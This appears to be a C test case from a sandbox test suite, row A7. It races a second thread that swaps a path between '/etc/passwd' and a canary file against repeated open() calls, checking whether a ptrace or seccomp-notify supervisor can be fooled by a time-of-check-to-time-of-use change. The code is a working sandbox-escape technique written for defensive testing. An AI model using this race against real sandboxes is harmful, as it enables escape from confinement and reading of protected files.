// Tries: changes a path between check and use, from a second thread, so that a filter that reads paths is fooled.
// Seen: go-sandbox 962773e; the classic against ptrace and seccomp-notify supervisors (seccomp_unotify(2)).
// Must: no decision is made on a pointer, so that there is nothing to race: the canary never opens.
// Case: row=A7 expect=held args={canary_file}
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
static char path[4096];
static const char *canary;
static volatile int done;
static void *swap(void *unused) {
    (void)unused;
    while (!done) { strcpy(path, "/etc/passwd"); strcpy(path, canary); }
    return 0;
}
int main(int argc, char **argv) {
    pthread_t thread;
    canary = argc > 1 ? argv[1] : "/nothing";
    char secret[64] = "", text[64];
    if (pthread_create(&thread, 0, swap, 0)) return 1;
    for (int round = 0; round < 20000; round++) {
        int file = open(path, O_RDONLY);
        if (file < 0) continue;
        memset(text, 0, sizeof text);
        if (read(file, text, sizeof text - 1) > 0 && !strncmp(text, "canary-", 7)) strcpy(secret, text);
        close(file);
    }
    done = 1;
    pthread_join(thread, 0);
    if (*secret) { printf("ESCAPED: %s\n", secret); return 66; }
    puts("HELD");
    return 0;
}
